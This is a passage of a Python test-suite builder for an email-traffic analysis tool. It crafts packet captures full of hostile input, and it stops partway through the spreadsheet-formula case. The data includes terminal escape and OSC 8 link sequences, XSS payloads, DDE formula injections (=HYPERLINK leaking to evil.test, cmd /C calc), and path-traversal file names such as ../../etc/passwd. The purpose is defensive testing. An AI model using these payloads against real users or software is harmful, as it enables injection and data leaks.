#!/usr/bin/env python3
"""Build the hostile-content suite (tests/captures/hostile/), deterministically.

    python tests/hostile/make_suite.py           # write the committed captures, manifest.json and README.md
    python tests/hostile/make_suite.py --check   # exit 1 if a committed file differs from a rebuild
    python tests/hostile/make_suite.py --large DIR  # also write the large case (16,000 messages) into DIR

Every string maildissect shows was chosen by whoever sent the mail. Each case
here is a small capture, crafted byte by byte (frames packed with ``struct``
by tests/malformed/packets.py), that attacks the person reading the output
in one way, through every protocol and every field a person sees: text that
decodes to lone surrogates, terminal escapes and rich markup, HTML, spreadsheet
formulas, secrets that ``--redact`` must mask, and file names that must not
escape the extraction directory or name a Windows device. ``manifest.json``
records what the tests (tests/test_hostile.py) look for in each: the planted
secrets, the anomalies a case must raise, the markers of its HTML payloads.

The large case (one SMTP session of 16,000 messages, about 40 MB) is built
at test time by tests/fixtures/long_session.py and not committed.
"""

from __future__ import annotations

import argparse
import base64
import json
import random
import string
import struct
import sys
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Callable
from urllib.parse import quote

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from tests.malformed.packets import Capture, Conversation, gz  # noqa: E402

SUITE = ROOT / "tests" / "captures" / "hostile"

# -- the hostile strings ---------------------------------------------------------------------
ESC = "\x1b"
#: Every terminal trick at once: CSI erase-screen, OSC 8 hyperlinks ended by ST (ESC \) and by
#: BEL, the C1 controls CSI (U+009B) and NEL (U+0085), bidi overrides and isolates, DEL, and rich
#: markup (a closing tag that rich refuses, a link, a style).
EVIL = (f"{ESC}[2J{ESC}]8;;https://evil.test/{ESC}\\Click{ESC}]8;;{ESC}\\ {ESC}]8;;https://evil.test/\x07Bel"
        f"{ESC}]8;;\x07 \u009b2J\u0085 \u202eevil\u202c \u2066x\u2069\u200f\x7f [/x] "
        "[link=https://evil.test/]Click here[/link] [bold red]red")
#: The same without spaces, for tokens (addresses, a request target, a Message-ID).
EVIL_TOKEN = EVIL.replace(" ", "")
#: An 8-bit byte that is CSI in ISO 8859-1 (a decoder that read latin-1 would emit U+009B).
RAW_C1 = b"\x1b[2J\x9b2J\x85"

#: Spreadsheet formulas, one per character that starts one (OWASP: = + - @ TAB CR).
FORMULAS = ['=HYPERLINK("https://evil.test/?leak="&A2,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2+cmd|' /C calc'!A0", "\r=1+3+cmd|' /C calc'!A0"]

#: File names an extraction must defuse: Windows devices (the stem with trailing spaces and
#: dots removed), traversal, absolute paths, controls, and names too long for a file system.
DEVICE_NAMES = ["CON .txt", "NUL .txt", "aux.tar.gz", "COM\u00b9.pdf", "conin$", "CONOUT$.log", "LPT9 . .doc", "Prn",
                "nul...", "com0"]
PATH_NAMES = ["../../etc/passwd", "..\\..\\windows\\system32\\evil.dll", "/etc/shadow", "C:\\Windows\\evil.exe",
              "\\\\server\\share\\unc.txt", "..", ".", "...", "./../.bashrc", "a/../../../../tmp/escape.txt"]
CONTROL_NAMES = [f"ctl{ESC}[2J\x07\x00.txt", "right\u202etxt.exe", "tab\tand\nnewline.txt", "trailing.exe. . ."]
LONG_NAME = "L" * 5000 + ".pdf"


def xss(n: int) -> str:
    return f'<script>alert("md-xss-{n}")</script>'


#: HTML payloads, each with a unique marker (md-xss-N); the report must show them as text.
HTML = [xss(1), f'<img src=x onerror=alert("md-xss-2")>', f'</script><script>alert("md-xss-3")</script>',
        f'"><svg onload=alert("md-xss-4")>', f"</title></style></textarea>{xss(5)}", f"<a href=\"javascript:alert('md-xss-6')\">x</a>",
        f'<iframe srcdoc="&lt;script&gt;alert(&quot;md-xss-7&quot;)&lt;/script&gt;"></iframe>', xss(8), xss(9), xss(10),
        f'<body onload=alert("md-xss-11")>', xss(12), xss(13)]


def encoded_word(text: str, charset: str = "utf-8") -> str:
    return f"=?{charset}?b?" + base64.b64encode(text.encode("utf-8")).decode() + "?="


def mutf7(text: str) -> str:
    """IMAP's modified UTF-7 (RFC 3501 5.1.3), of any string (lone surrogates too)."""
    out, run = [], []

    def flush():
        if run:
            data = "".join(run).encode("utf-16-be", "surrogatepass")
            out.append("&" + base64.b64encode(data).decode().rstrip("=").replace("/", ",") + "-")
            run.clear()
    for ch in text:
        if 0x20 <= ord(ch) <= 0x7E:
            flush()
            out.append("&-" if ch == "&" else ch)
        else:
            run.append(ch)
    flush()
    return "".join(out)


def imap_quote(text: str) -> bytes:
    return b'"' + text.encode("utf-8").replace(b"\\", b"\\\\").replace(b'"', b'\\"') + b'"'


def client_hello(sni: bytes, alpn: list[bytes]) -> bytes:
    """A TLS 1.2 ClientHello record naming ``sni`` (server_name) and offering ``alpn``, packed by hand."""
    name = b"\x00" + struct.pack("!H", len(sni)) + sni
    ext_sni = struct.pack("!HH", 0, len(name) + 2) + struct.pack("!H", len(name)) + name
    protos = b"".join(bytes([len(p)]) + p for p in alpn)
    ext_alpn = struct.pack("!HHH", 16, len(protos) + 2, len(protos)) + protos
    exts = ext_sni + ext_alpn
    body = (b"\x03\x03" + bytes(range(32)) + b"\x00" + struct.pack("!H", 4) + b"\x13\x01\xc0\x2f" + b"\x01\x00"
            + struct.pack("!H", len(exts)) + exts)
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


# -- cases -----------------------------------------------------------------------------------
@dataclass
class Secret:
    """A unique secret planted in a capture (``user``: its login, for the base64 forms of PLAIN and Basic)."""

    name: str
    secret: str
    user: str = ""
    kept: bool = True  # a record keeps it (masked under --redact); False: no record holds it at all


@dataclass
class Case:
    name: str
    about: str
    build: Callable[[], bytes] = field(repr=False, compare=False)
    anomalies: list[str] = field(default_factory=list)  # each must be reported at least once
    secrets: list[dict] = field(default_factory=list)  # planted secrets: --redact must leave none
    html_markers: list[str] = field(default_factory=list)  # markers of HTML payloads the report must show as text
    large: bool = False  # built at test time, not committed

    def manifest(self) -> dict:
        d = asdict(self)
        d.pop("build")
        return d


CASES: dict[str, Case] = {}


def case(name: str, about: str, **expect):
    def register(fn):
        CASES[name] = Case(name, about, fn, **expect)
        return fn
    return register


def crlf(text: str) -> bytes:
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("utf-8")


def attachment(disposition: str, body: bytes, ctype: str = "application/octet-stream") -> bytes:
    return (f"--XX\r\nContent-Type: {ctype}\r\nContent-Disposition: attachment; {disposition}\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n").encode() + base64.b64encode(body) + b"\r\n"


def mime(headers: bytes, parts: list[bytes], text: bytes = b"hello\r\n") -> bytes:
    """A multipart/mixed message: ``headers`` (bytes, CRLF-terminated lines), a text part, ``parts``."""
    return (headers + b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=XX\r\n\r\n"
            b"--XX\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + text + b"".join(parts) + b"--XX--\r\n")


def smtp(cap: Capture, cport: int, helo: bytes, messages: list[tuple[bytes, bytes]], greeting: bytes = b"mx.example.net",
         before: list[bytes] = (), client: str = "10.0.0.1", server: str = "10.0.0.2", sport: int = 25,
         queued: bytes = b"Q1") -> Conversation:
    """One SMTP session: greeting, EHLO, ``before`` (client, server, client... lines), then per
    (envelope sender, message) MAIL, RCPT, DATA and the message; QUIT."""
    conv = Conversation(cap, client=client, cport=cport, server=server, sport=sport).open()
    conv.dialogue(b"220 " + greeting + b" ESMTP\r\n", b"EHLO " + helo + b"\r\n",
                  b"250-" + greeting + b"\r\n250-AUTH PLAIN LOGIN\r\n250 8BITMIME\r\n")
    for i, line in enumerate(before):
        (conv.client if i % 2 == 0 else conv.server)(line)
    for sender, msg in messages:
        conv.dialogue(None, b"MAIL FROM:<" + sender + b">\r\n", b"250 2.1.0 ok\r\n", b"RCPT TO:<bob@example.net>\r\n",
                      b"250 2.1.5 ok\r\n", b"DATA\r\n", b"354 go ahead\r\n", msg + b".\r\n",
                      b"250 2.0.0 Ok: queued as " + queued + b"\r\n")
    conv.dialogue(None, b"QUIT\r\n", b"221 bye\r\n")
    return conv.close()


def session(cap: Capture, cport: int, sport: int, *turns, server: str = "10.0.0.2", close: bool = True) -> Conversation:
    """A connection whose dialogue is ``turns`` (server first)."""
    conv = Conversation(cap, cport=cport, server=server, sport=sport).open()
    conv.dialogue(*turns)
    return conv.close() if close else conv


def http_request(method: bytes, target: bytes, body: bytes = b"", ctype: bytes | None = None, extra: bytes = b"",
                 host: bytes = b"webmail.example.net") -> bytes:
    head = method + b" " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + extra
    if ctype is not None:
        head += b"Content-Type: " + ctype + b"\r\n"
    if body or method in (b"POST", b"PUT"):
        head += b"Content-Length: %d\r\n" % len(body)
    return head + b"\r\n" + body


def http_response(body: bytes = b"", ctype: bytes = b"text/html", status: bytes = b"200 OK", extra: bytes = b"") -> bytes:
    return (b"HTTP/1.1 " + status + b"\r\nContent-Type: " + ctype + b"\r\n" + extra
            + b"Content-Length: %d\r\n\r\n" % len(body) + body)


def jmap(calls) -> bytes:
    # json.dumps writes lone surrogates as \ud800 escapes and controls as \u001b
    return json.dumps({"using": ["urn:ietf:params:jmap:core", "urn:ietf:params:jmap:mail"],
                       "methodCalls": calls}).encode()


def jmap_email(subject: str, from_name: str, to_name: str, body: str, attachment_name: str, mailbox: str = "m1"):
    return {"k1": {"from": [{"name": from_name, "email": "eve@example.org"}],
                   "to": [{"name": to_name, "email": "bob@example.net"}], "subject": subject,
                   "mailboxIds": {mailbox: True}, "bodyValues": {"t": {"value": body}},
                   "textBody": [{"partId": "t", "type": "text/plain"}],
                   "attachments": [{"blobId": "G1", "type": "application/pdf", "name": attachment_name}]}}


def webmail(cap: Capture, cport: int, requests: list[tuple[bytes, bytes]]) -> Conversation:
    conv = Conversation(cap, cport=cport, server="10.0.0.3", sport=80).open()
    for req, resp in requests:
        conv.client(req).server(resp)
    return conv.close()


def form(fields: dict[str, str]) -> bytes:
    return "&".join(f"{quote(k)}={quote(v, safe='', encoding='utf-8', errors='surrogatepass')}"
                    for k, v in fields.items()).encode()


def multipart(fields: list[tuple[bytes, bytes]], boundary: bytes = b"fb") -> bytes:
    """multipart/form-data: (Content-Disposition parameters, value) pairs."""
    return b"".join(b"--" + boundary + b"\r\nContent-Disposition: form-data; " + params + b"\r\n\r\n" + value + b"\r\n"
                    for params, value in fields) + b"--" + boundary + b"--\r\n"


# -- 1. lone surrogates, by every route --------------------------------------------------------
SURROGATE_MESSAGE = crlf("""\
From: =?utf-7?q?Mallory_+2D0-?= <m@evil.test>
To: =?unicode_escape?q?Bob\\ud800?= <bob@example.net>, =?utf-7?b?KzJEMC0=?= <carol@example.net>
Cc: =?raw_unicode_escape?q?Cc\\udfff?= <cc@example.net>, =?base64_codec?q?YWJj?= <b64@example.net>
Reply-To: =?rot13?q?ebg?= <r@example.net>, =?zlib_codec?b?eJxLTEoGAAJNASc=?= <z@example.net>
Subject: =?utf-7?q?hi+2D0-there?=
Message-ID: <surrogates-1@evil.test>
Date: Mon, 1 Jan 2024 12:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain; charset=unicode_escape

body \\ud800 text
--b
Content-Type: text/html; charset=utf-7

<p>+2D0-</p>
--b
Content-Type: application/octet-stream
Content-Disposition: attachment; filename*=unicode_escape''a%5Cud800.txt

x
--b
Content-Type: application/octet-stream; name*=utf-7''%2B2D0-.bin

y
--b
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="=?utf-7?q?+3AA-?=.pdf"

z
--b
Content-Type: message/rfc822

Subject: =?utf-7?q?inner+2D0-?=
From: =?unicode_escape?q?In\\udc00ner?= <inner@evil.test>

inner
--b--
""")
#: Header bytes that are the UTF-8 encoding of a surrogate (invalid UTF-8: read as windows-1252).
SURROGATE_8BIT = (b"From: M\xed\xa0\x80llory <m@evil.test>\r\nSubject: raw \xed\xa0\x80 bytes\r\n"
                  b"Message-ID: <surrogates-\xed\xa0\x80@evil.test>\r\nContent-Type: text/plain\r\n"
                  b"Content-Disposition: attachment; filename=\"r\xed\xb0\x80.txt\"\r\n\r\nhi\r\n")


@case("lone-surrogates.pcap.gz", "text that Python's codecs turn into lone surrogates, by every route: RFC 2047 "
      "words in utf-7, unicode_escape, raw_unicode_escape, base64_codec, rot13 and zlib_codec (Subject, From, To, "
      "Cc display names, a file name, a message/rfc822 part), RFC 2231 file names (filename*=unicode_escape, "
      "name*=utf-7), text parts in unicode_escape and utf-7, UTF-8-encoded surrogates in raw header bytes, an SMTP "
      "HELO and a SASL PLAIN user name, an IMAP LOGIN, mailbox names in modified UTF-7 (&2AA-) and an ENVELOPE, a "
      "POP3 USER and APOP name, HTTP Basic user, URL queries and forms with %ED%A0%80, Roundcube compose fields, "
      "multipart file names, a download's filename*=raw_unicode_escape, JMAP JSON with \\ud800 escapes",
      anomalies=["mime_unknown_charset", "mime_header_not_utf8", "text_invalid_unicode", "text_charset_error",
                 "text_unknown_charset"])
def lone_surrogates() -> bytes:
    cap = Capture()
    plain = base64.b64encode(b"\x00us\xed\xa0\x80r\x00pw")
    smtp(cap, 40000, b"cli\xed\xa0\x80nt.example", [(b"m@evil.test", SURROGATE_MESSAGE),
                                                    (b"m\xed\xa0\x80@evil.test", SURROGATE_8BIT)],
         before=[b"AUTH PLAIN " + plain + b"\r\n", b"235 2.7.0 ok\r\n"])
    envelope = (b'("Mon, 1 Jan 2024 12:00:00 +0000" "=?utf-7?q?x+2D0-?= it\xed\xa0\x80s" '
                b'(("=?unicode_escape?q?C\\\\ud800?=" NIL "carol" "example.net")) NIL NIL '
                b'((NIL NIL "bob" "example.net")) NIL NIL NIL "<surrogates-3@evil.test>")')
    session(cap, 40001, 143, b"* OK IMAP ready\r\n", b'a1 LOGIN "us\xed\xa0\x80r" "pw"\r\n', b"a1 OK logged in\r\n",
            b'a2 LIST "" "*"\r\n',
            b'* LIST () "/" "&2AA-"\r\n* LIST () "/" "&3AA-x"\r\n* LIST () "/" "&2D3YPQ-x"\r\n'
            b'* LIST () "/" "bad&zz"\r\n* LIST () "/" "&*&-"\r\n* LIST () "/" "Entw&APw-rfe"\r\na2 OK\r\n',
            b'a3 SELECT "&2AA-"\r\n', b"* 1 EXISTS\r\n* OK [UIDVALIDITY 7] x\r\na3 OK [READ-WRITE] selected\r\n",
            b'a4 STATUS "&3AA-x" (MESSAGES)\r\n', b'* STATUS "&3AA-x" (MESSAGES 1)\r\na4 OK\r\n',
            b"a5 FETCH 1 (ENVELOPE)\r\n", b"* 1 FETCH (ENVELOPE " + envelope + b")\r\na5 OK\r\n",
            b"a6 FETCH 1 (BODY[])\r\n",
            b"* 1 FETCH (BODY[] {%d}\r\n" % len(SURROGATE_MESSAGE) + SURROGATE_MESSAGE + b")\r\na6 OK\r\n",
            b"a7 LOGOUT\r\n", b"* BYE\r\na7 OK\r\n")
    session(cap, 40002, 110, b"+OK POP3 ready <1.2@pop.example>\r\n", b"USER us\xed\xa0\x80r\r\n", b"+OK\r\n",
            b"PASS pw\r\n", b"-ERR no\r\n", b"APOP \xed\xb0\x80user 0123456789abcdef0123456789abcdef\r\n",
            b"+OK in\r\n", b"RETR 1\r\n", b"+OK\r\n" + SURROGATE_MESSAGE + b".\r\n", b"QUIT\r\n", b"+OK bye\r\n")
    auth = b"Authorization: Basic " + base64.b64encode(b"al\xed\xa0\x80ce:pw") + b"\r\n"
    sess = {"capabilities": {"urn:ietf:params:jmap:core": {}, "urn:ietf:params:jmap:mail": {}},
            "accounts": {"A\ud800": {"name": "al\ud800ce@example.net"}}, "username": "al\ud800ce",
            "primaryAccounts": {"urn:ietf:params:jmap:mail": "A\ud800"},
            "apiUrl": "http://webmail.example.net/jmap/api/", "state": "s1"}
    boxes = {"methodResponses": [["Mailbox/get", {"accountId": "A", "list": [
        {"id": "m1", "name": "In\ud800box", "role": "inbox", "totalEmails": 1}]}, "0"]], "sessionState": "s1"}
    create = jmap_email("hi \ud83d there", "Eve\ud800", "B\udc00b", "text \udfff", "r\ud800.pdf")
    compose = multipart([(b'name="to"', b"bob@example.net"), (b'name="subject"', b"sub\xed\xa0\x80ject"),
                         (b"name=\"attachment\"; filename*=utf-7''%2B2D0-.pdf\r\nContent-Type: application/pdf",
                          b"%PDF-1.4")])
    rc = form({"_task": "mail", "_action": "send", "_id": "c1", "_from": "1", "_to": "bob@example.net",
               "_subject": "rc \ud800 subject", "_message": "body \udc00"})
    webmail(cap, 40003, [
        (http_request(b"POST", b"/login", b"user=%ED%A0%80al&pass=p%ED%A0%80w", b"application/x-www-form-urlencoded"),
         http_response(status=b"302 Found", extra=b"Location: /mail\r\n")),
        (http_request(b"GET", b"/mail/search?q=%ED%A0%80&folder=In%C0box&n=%ED%B0%80"), http_response(b"<ul></ul>")),
        (http_request(b"GET", b"/jmap/session", extra=auth), http_response(json.dumps(sess).encode(), b"application/json")),
        (http_request(b"POST", b"/jmap/api/", jmap([["Mailbox/get", {"accountId": "A"}, "0"]]), b"application/json",
                      auth), http_response(json.dumps(boxes).encode(), b"application/json")),
        (http_request(b"POST", b"/jmap/api/", jmap([["Email/set", {"accountId": "A", "create": create}, "0"]]),
                      b"application/json", auth),
         http_response(json.dumps({"methodResponses": [["Email/set", {"created": {"k1": {"id": "M\ud800"}}}, "0"]]}
                                  ).encode(), b"application/json")),
        (http_request(b"POST", b"/compose/send", compose, b"multipart/form-data; boundary=fb"),
         http_response(status=b"303 See Other", extra=b"Location: /sent\r\n")),
        (http_request(b"POST", b"/?_task=mail&_action=send", rc, b"application/x-www-form-urlencoded"),
         http_response(b'{"action":"send"}', b"application/json")),
        (http_request(b"GET", b"/download/1"),
         http_response(b"x", b"application/octet-stream",
                       extra=b"Content-Disposition: attachment; filename*=raw_unicode_escape''d%5Cudfff.bin\r\n")),
    ])
    return gz(cap.pcap())


# -- 2. terminal escapes and rich markup in every field a person sees --------------------------
def evil_message(n: int, header_text: Callable[[str], str]) -> bytes:
    """A message with ``EVIL`` in every header a person sees (through ``header_text``: raw or an
    encoded word) and in its file names."""
    h = header_text
    headers = crlf(f"From: {h(EVIL)} <from@evil.test>\n"
                   f"Sender: {h(EVIL)} <sender@evil.test>\n"
                   f"To: {h(EVIL)} <bob@example.net>, {h('second ' + EVIL)} <carol@example.net>\n"
                   f"Cc: {h(EVIL)} <cc@example.net>\n"
                   f"Reply-To: {h(EVIL)} <reply@evil.test>\n"
                   f"Subject: {h(EVIL)} {n}\n"
                   f"Message-ID: <{EVIL_TOKEN}-{n}@evil.test>\n"
                   f"In-Reply-To: <{EVIL_TOKEN}@evil.test>\n"
                   f"References: <{EVIL_TOKEN}@evil.test>\n"
                   f"Date: Mon, 1 Jan 2024 12:00:0{n} +0000\n"
                   f"User-Agent: {EVIL}\n"
                   f"X-Mailer: {EVIL}\n"
                   f"Received: from {EVIL_TOKEN} ({EVIL_TOKEN} [10.9.9.9]) by mx.{EVIL_TOKEN} with ESMTP id {EVIL_TOKEN};\n"
                   f"\tMon, 1 Jan 2024 11:00:00 +0000\n"
                   f"Received: from [/x] by [link=https://evil.test/]relay[/link] with ESMTP; Mon, 1 Jan 2024 10:00:00 +0000\n")
    headers = headers.replace(b"Subject: ", b"Subject: ", 1)
    parts = [attachment(f'filename="{h(EVIL)}.txt"', b"one"),
             attachment("filename*=utf-8''" + quote(EVIL, safe="") + ".pdf", b"two"),
             attachment(f'filename="{EVIL}.doc"', b"three"),
             attachment(f'filename="raw-c1.bin"; name="x"', b"four", ctype=f'application/x-evil; name="{EVIL}"')]
    raw = mime(headers, parts, text=crlf(f"body {EVIL}\n"))
    # the same 8-bit byte that is CSI in latin-1, raw in a header
    return raw.replace(b"X-Mailer: ", b"X-Raw-C1: " + RAW_C1 + b"\r\nX-Mailer: ", 1)


def evil_bytes(extra: bytes = b"") -> bytes:
    return EVIL_TOKEN.encode() + extra


@case("terminal-escapes.pcap.gz", "terminal escapes (CSI ESC[2J, OSC 8 hyperlinks ended by ST and by BEL, the C1 "
      "controls U+009B and U+0085 and the raw byte 0x9b, DEL) bidi overrides and isolates, and rich markup ([/x], "
      "[link=https://evil.test/]Click here[/link], [bold red]) in every field a person sees: SMTP greeting, HELO, "
      "AUTH user, unknown commands, addresses, replies and queue ids; From, Sender, To, Cc, Reply-To display "
      "names, Subject, Message-ID, In-Reply-To, User-Agent, Received notes and file names, raw and as RFC 2047 "
      "and RFC 2231 text; IMAP greeting, LOGIN user, mailbox names (quoted and modified UTF-7), ENVELOPE "
      "subject and names; POP3 USER and replies; HTTP request lines, Host, User-Agent, reason phrases, "
      "upload and download file names, Roundcube compose forms and JMAP JSON (\\u001b escapes); TLS server "
      "names and ALPN protocols of ClientHellos (implicit TLS, after STARTTLS, in an HTTP CONNECT tunnel to a "
      "hostile host name)")
def terminal_escapes() -> bytes:
    cap = Capture()
    user = base64.b64encode(evil_bytes())
    smtp(cap, 40000, evil_bytes(), [(b"from-" + evil_bytes() + b"@evil.test", evil_message(1, lambda s: s)),
                                    (b"from@evil.test", evil_message(2, encoded_word))],
         greeting=evil_bytes(), queued=evil_bytes(),
         before=[b"[/x]\r\n", b"500 " + EVIL.encode() + b"\r\n", b"[link=https://evil.test/]x[/link]\r\n",
                 b"502 " + EVIL.encode() + b"\r\n", b"AUTH LOGIN " + user + b"\r\n", b"334 UGFzc3dvcmQ6\r\n",
                 base64.b64encode(b"pw") + b"\r\n", b"235 2.7.0 " + EVIL.encode() + b"\r\n",
                 b"NOOP " + EVIL.encode() + RAW_C1 + b"\r\n", b"250 " + RAW_C1 + b"\r\n"])
    name = EVIL.encode()
    box_raw, box_utf7 = imap_quote(EVIL), mutf7(EVIL).encode()
    msg = evil_message(3, lambda s: s)
    envelope = (b'("Mon, 1 Jan 2024 12:00:00 +0000" ' + imap_quote(EVIL) + b" ((" + imap_quote(EVIL)
                + b' NIL "eve" "evil.test")) NIL NIL ((' + imap_quote(EVIL) + b' NIL "bob" "example.net")) NIL NIL NIL '
                + imap_quote(f"<{EVIL_TOKEN}@evil.test>") + b")")
    session(cap, 40001, 143, b"* OK " + name + b"\r\n", b"a1 LOGIN " + imap_quote(EVIL) + b' "pw"\r\n',
            b"a1 OK " + name + b"\r\n", b'a2 LIST "" "*"\r\n',
            b'* LIST () "/" ' + box_raw + b'\r\n* LIST () "/" "' + box_utf7 + b'"\r\na2 OK\r\n',
            b"a3 SELECT " + box_raw + b"\r\n", b"* 1 EXISTS\r\n* OK [UIDVALIDITY 7] x\r\na3 OK [READ-WRITE] done\r\n",
            b'a4 SELECT "' + box_utf7 + b'"\r\n', b"* 1 EXISTS\r\n* OK [UIDVALIDITY 8] x\r\na4 OK [READ-WRITE] done\r\n",
            b"a5 FETCH 1 (ENVELOPE)\r\n", b"* 1 FETCH (ENVELOPE " + envelope + b")\r\na5 OK\r\n",
            b"a6 FETCH 1 (BODY[])\r\n", b"* 1 FETCH (BODY[] {%d}\r\n" % len(msg) + msg + b")\r\na6 OK\r\n",
            b"a7 " + name + b"\r\n", b"a7 BAD " + name + b"\r\n", b"a8 LOGOUT\r\n", b"* BYE " + name + b"\r\na8 OK\r\n")
    session(cap, 40002, 110, b"+OK " + name + b"\r\n", b"USER " + name + b"\r\n", b"+OK " + name + b"\r\n",
            b"PASS pw\r\n", b"+OK\r\n", b"RETR 1\r\n", b"+OK\r\n" + evil_message(4, encoded_word) + b".\r\n",
            b"XEVIL " + name + b"\r\n", b"-ERR " + name + b"\r\n", b"QUIT\r\n", b"+OK bye\r\n")
    create = jmap_email(EVIL, EVIL, EVIL, EVIL, EVIL + ".pdf")
    upload = multipart([(b'name="to"', b"bob@example.net"), (b'name="subject"', name),
                        (b'name="attachment"; filename="' + evil_bytes() + b'.pdf"\r\nContent-Type: application/pdf',
                         b"%PDF-1.4")])
    rc = form({"_task": "mail", "_action": "send", "_id": "c1", "_from": "1", "_to": f"{EVIL} <bob@example.net>",
               "_subject": EVIL, "_message": EVIL})
    ua = b"User-Agent: " + name + b"\r\n"
    webmail(cap, 40003, [
        (http_request(b"GET", b"/" + evil_bytes() + b"?a=[link=https://evil.test/]x[/link]", extra=ua,
                      host=b"[link=https://evil.test/]h" + evil_bytes()),
         http_response(b"ok", status=b"200 " + name)),
        (http_request(b"POST", b"/jmap/api/", jmap([["Email/set", {"accountId": "A", "create": create}, "0"]]),
                      b"application/json", ua),
         http_response(json.dumps({"methodResponses": [["Email/set", {"created": {"k1": {"id": EVIL}}}, "0"]]}
                                  ).encode(), b"application/json")),
        (http_request(b"POST", b"/compose/send", upload, b"multipart/form-data; boundary=fb", ua),
         http_response(status=b"303 See Other", extra=b"Location: /" + evil_bytes() + b"\r\n")),
        (http_request(b"POST", b"/?_task=mail&_action=send", rc, b"application/x-www-form-urlencoded", ua),
         http_response(b'{"action":"send"}', b"application/json")),
        (http_request(b"PUT", b"/upload/" + evil_bytes(), b"data", b"application/octet-stream",
                      b"X-File-Name: " + name + b"\r\n"), http_response(status=b"201 Created")),
        (http_request(b"GET", b"/download/2", extra=ua),
         http_response(b"x", b"application/octet-stream",
                       extra=b'Content-Disposition: attachment; filename="' + evil_bytes() + b'.bin"\r\n')),
    ])
    # TLS: the server name and ALPN protocols a ClientHello offers (implicit TLS, and after STARTTLS)
    hello = client_hello(evil_bytes(), [evil_bytes(), b"[link=https://evil.test/]x[/link]"])
    session(cap, 40004, 465, None, hello, close=True)
    session(cap, 40005, 25, b"220 mx ESMTP\r\n", b"EHLO c\r\n", b"250-mx\r\n250 STARTTLS\r\n", b"STARTTLS\r\n",
            b"220 go ahead\r\n", hello)
    # a tunnel to a hostile host name (HTTP CONNECT), then TLS inside it
    conv = Conversation(cap, cport=40006, server="10.0.0.4", sport=3128).open()
    conv.client(b"CONNECT " + evil_bytes(b":443") + b" HTTP/1.1\r\nHost: " + evil_bytes(b":443") + b"\r\n\r\n")
    conv.server(b"HTTP/1.1 200 Connection established\r\n\r\n").client(hello).close()
    return gz(cap.pcap())


# -- 3. HTML payloads ---------------------------------------------------------------------------
@case("html-payloads.pcap.gz", "HTML and script payloads (<script>, an img onerror, a </script> that would end "
      "an inline script, svg onload, a javascript: link, an iframe srcdoc) in the Subject, From and To display "
      "names, Message-ID, HELO, file names, the HTML body, SMTP replies, IMAP mailbox names, POP3 user names and "
      "HTTP request lines, Host and User-Agent: the HTML report must show them as text",
      # (the report shows neither bodies nor User-Agent: md-xss-5, 6 and 7 must only not run)
      html_markers=[f"md-xss-{n}" for n in (1, 2, 3, 4, 8, 9, 10, 11, 12, 13)])
def html_payloads() -> bytes:
    cap = Capture()
    headers = crlf(f"From: {encoded_word(HTML[1])} <from@evil.test>\n"
                   f"To: {encoded_word(HTML[3])} <bob@example.net>\n"
                   f"Subject: {HTML[0]}\n"
                   f"Message-ID: <{HTML[2].replace(' ', '')}@evil.test>\n"
                   f"Date: Mon, 1 Jan 2024 12:00:00 +0000\n"
                   f"User-Agent: {HTML[4]}\n"
                   f"Received: from {HTML[9]} by mx.example.net with ESMTP; Mon, 1 Jan 2024 11:00:00 +0000\n")
    html_part = (b"--XX\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body>"
                 + HTML[5].encode() + HTML[6].encode() + b"</body></html>\r\n")
    msg = mime(headers, [html_part, attachment(f'filename="{HTML[7]}.html"', HTML[7].encode(), "text/html"),
                         attachment(f'filename="{encoded_word(HTML[10])}.txt"', b"x")])
    subject2 = crlf(f"From: alice@example.org\nSubject: {encoded_word(HTML[2])}\n"
                    f"Message-ID: <second@evil.test>\n\nbody\n")
    smtp(cap, 40000, HTML[8].replace(" ", "").encode(), [(b"from@evil.test", msg), (b"a@example.org", subject2)],
         greeting=HTML[11].replace(" ", "").encode(), queued=HTML[12].encode())
    session(cap, 40001, 143, b"* OK ready\r\n", b'a1 LOGIN "' + HTML[1].encode().replace(b'"', b"'") + b'" "pw"\r\n',
            b"a1 OK\r\n", b"a2 SELECT " + imap_quote(HTML[0]) + b"\r\n",
            b"* 1 EXISTS\r\n* OK [UIDVALIDITY 7] x\r\na2 OK [READ-WRITE] done\r\n",
            b"a3 FETCH 1 (BODY[])\r\n", b"* 1 FETCH (BODY[] {%d}\r\n" % len(msg) + msg + b")\r\na3 OK\r\n",
            b"a4 LOGOUT\r\n", b"* BYE\r\na4 OK\r\n")
    session(cap, 40002, 110, b"+OK ready\r\n", b"USER " + HTML[0].encode() + b"\r\n", b"+OK\r\n", b"PASS pw\r\n",
            b"+OK\r\n", b"RETR 1\r\n", b"+OK\r\n" + msg + b".\r\n", b"QUIT\r\n", b"+OK bye\r\n")
    ua = b"User-Agent: " + HTML[4].encode() + b"\r\n"
    webmail(cap, 40003, [
        (http_request(b"GET", b"/" + HTML[0].replace(" ", "").encode(), extra=ua, host=HTML[1].replace(" ", "").encode()),
         http_response(b"<p>ok</p>", status=b"200 " + HTML[3].encode())),
        (http_request(b"POST", b"/?_task=mail&_action=send",
                      form({"_task": "mail", "_action": "send", "_id": "c1", "_to": "bob@example.net",
                            "_subject": HTML[0], "_message": HTML[5]}), b"application/x-www-form-urlencoded", ua),
         http_response(b'{"action":"send"}', b"application/json")),
    ])
    return gz(cap.pcap())


# -- 4. spreadsheet formulas ----------------------------------------------------------------------
@case("csv-formulas.pcap.gz", "cells that start a spreadsheet formula (= + - @ TAB CR) in every text column of "
      "every CSV: HELO, addresses, AUTH, IMAP and POP3 user names, Subject, From, To, Cc, Message-ID, file names, "
      "content types, SMTP, IMAP and POP3 commands and replies, queue ids, mailbox names, HTTP Host, User-Agent, "
      "methods and reason phrases, anomaly details, and the Received notes of a journey")
def csv_formulas() -> bytes:
    cap = Capture()
